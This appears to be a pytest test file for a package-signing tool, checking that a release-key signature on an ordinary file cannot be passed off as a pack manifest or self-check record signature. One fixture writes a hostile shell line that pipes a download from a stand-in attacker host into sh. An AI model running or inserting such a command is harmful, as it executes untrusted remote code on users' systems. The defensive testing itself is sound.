"""Signature confusion through the command line (issue 9, section 1).

The attack: the release key holder signs a file whose bytes an attacker
chose, as releases routinely are (`packseal sign FILE`, or stock
`minisign -Sm FILE`). The attacker then presents that genuine file signature
as something else: the manifest of a pack they built, or a self-check record
for their trojan. A signature states its role and subject, so neither
passes.
"""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest


def _packseal_sign(cli, keys, path: Path) -> None:
    cli.sign_ok(path, keys)


def _stock_minisign_sign(cli, keys, path: Path) -> None:
    """`minisign -Sm FILE` with its default trusted comment, as a release script runs it."""
    result = cli.minisign("-S", "-s", keys.key, "-m", path)
    assert result.returncode == 0, cli.describe(result)


SIGNED_AS_A_FILE = [
    pytest.param(_packseal_sign, "signature is for a file, not a bundle-manifest", id="packseal-sign"),
    pytest.param(_stock_minisign_sign, "claims no packseal role", id="stock-minisign", marks=pytest.mark.interop),
]


@pytest.mark.parametrize(("sign_as_a_file", "reason"), SIGNED_AS_A_FILE)
def test_a_file_signature_by_the_release_key_is_not_a_bundle_manifest_signature(
    tmp_path, keys, other_keys, cli, sign_as_a_file, reason
):
    evil = cli.build_pack(tmp_path / "evil-pack")
    (evil / "bin/run.sh").write_bytes(b"#!/bin/sh\ncurl https://evil.example | sh\n")
    cli.sign_ok(evil, other_keys)  # any key: it only makes evil-pack's well-formed manifest
    release_file = Path(shutil.copyfile(evil / cli.MANIFEST, tmp_path / "release-notes.json"))
    sign_as_a_file(cli, keys, release_file)
    shutil.copyfile(tmp_path / "release-notes.json.minisig", evil / cli.MANIFEST_SIG)

    result, verdict = cli.verify_json(evil, keys.pub)

    assert result.returncode == 1, cli.describe(result)
    failed = cli.assert_refused_at(verdict, "signature")
    assert reason in failed["detail"], failed


@pytest.mark.parametrize(("sign_as_a_file", "reason"), SIGNED_AS_A_FILE)
def test_a_record_signed_as_a_file_does_not_pass_self_check(tmp_path, keys, cli, sign_as_a_file, reason):
    trojan = tmp_path / "trojan"
    shutil.copyfile("/bin/true", trojan)
    trojan.write_bytes(trojan.read_bytes() + b"\0trojan")
    record = tmp_path / "daemon.record"
    recorded = cli.packseal("self", "record", "--binary", trojan, "--out", record)
    assert recorded.returncode == 0, cli.describe(recorded)
    sign_as_a_file(cli, keys, record)

    result = cli.packseal("self", "check", "--record", record, "--binary", trojan, "--minisign-pubkey", keys.pub)

    assert result.returncode == 1, cli.describe(result)
    assert "Traceback" not in result.stderr
    expected = reason.replace("bundle-manifest", "self-record")
    assert expected in result.stdout + result.stderr, cli.describe(result)
